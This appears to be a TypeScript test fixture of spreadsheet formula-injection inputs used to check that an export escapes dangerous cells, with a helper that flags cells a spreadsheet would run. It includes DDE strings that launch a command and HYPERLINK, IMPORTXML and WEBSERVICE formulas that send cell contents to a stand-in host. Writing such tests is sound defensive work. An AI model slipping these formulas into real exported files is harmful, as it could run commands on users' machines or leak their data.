/** Cells that spreadsheets run, or that have been used to make them: for tests of what we write. */

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  ' =',
  '\u00a0=',
  '\ufeff=',
  '\u200b=',
];

const COMMANDS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.org/?"&A1,"open")',
  'IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
];

/** What begins a formula, each with several bodies, and those that begin a cell in ways of their own. */
export const FORMULAS: readonly string[] = [
  ...STARTS.flatMap((start) => COMMANDS.map((command) => start + command)),
  '\tabc',
  '\rabc',
  '\0abc',
  '+447700900123',
  '-2',
  '@SUM(A1:A9)',
  '=',
  '-',
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("https://example.org")',
  '=1+1";=1+1',
  '=1,=2',
  '−1',
];

/** Whether a program might take a cell for more than text. Said here apart from the rule that is tested. */
export function runs(cell: string): boolean {
  const first = cell[0] ?? '';
  if ('\t\r\n\0'.includes(first) && first !== '') return true;
  const shown = [...cell].find((character) => !/[\s\p{Cc}\p{Cf}]/u.test(character)) ?? '';
  return shown !== '' && '=+-@＝＋－＠−'.includes(shown);
}
